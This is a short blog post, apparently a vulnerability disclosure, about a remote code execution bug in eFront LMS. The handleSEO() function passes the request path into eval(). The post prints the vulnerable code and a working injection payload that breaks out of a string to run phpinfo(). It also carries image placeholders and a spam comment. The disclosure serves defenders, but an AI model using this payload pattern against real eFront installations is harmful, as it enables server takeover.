eFront LMS - RCE (All versions)

11:48 AM

TL,DR; Its been a while last I published a post. so this is going to be a short post about an interesting-ish RCE found in all versions of eFront LMS - reported over 120 days ago but eFront cutting the open-source version as a response instead of a patch, I am forced to notify people of this vulnerability. I will update this post if a patch for this bug is out.

In /efront/libraries/globals.php:

The following handleSEO() function is the one causing the code execution. it looks like the following:

function handleSEO() {

   if (!$GLOBALS['configuration']['seo'] && $_SERVER['PATH_INFO']) {

       $parts = explode("/", trim($_SERVER['PATH_INFO'], "/"));

       for ($i = 0; $i < sizeof($parts); $i+=2) {

           eval('$'.$parts[$i].' = "'.$parts[$i+1].'";');



       foreach (get_defined_vars() as $key => $value) {$_GET[$key] = $value;




Because oftheir assumption that $_SERVER['PATH_INFO'] isn't user controllable, they sent it straight to eval(), causingthe code execution.





visiting the above link will get phpinfo() executed.

Breaking it down:

$parts = explode("/", trim($_SERVER['PATH_INFO'], "/"));for ($i = 0; $i < sizeof($parts); $i+=2) {

           eval('$'.$parts[$i].' = "'.$parts[$i+1].'";');


Because of that specific code, we send in /globals.php/hack/x, which will become: $hack="x

, but because php already executed the code, doing a comment (/*..*/) wont work and will actually crash it, so we will just tamper the variables likex";eval(phpinfo());$t="pwnd

This will endup creating:

$hack = "x";eval(phpinfo());$t="pwnd";

Which is then interpreted as:

eval($hack = "x";eval(phpinfo());$t="pwnd";);

And Boom! We got our code executed!

You Might AlsoLike


  1. Instruction is an imperative aspect of a man's being that ought to be given genuineconsideration. Understudies of government funded schools in the United States are precluded from claiming qualityinstruction as a result of wild school savagery. A for more information visitlms meaning.


Note: Only a member of this blog may post a comment.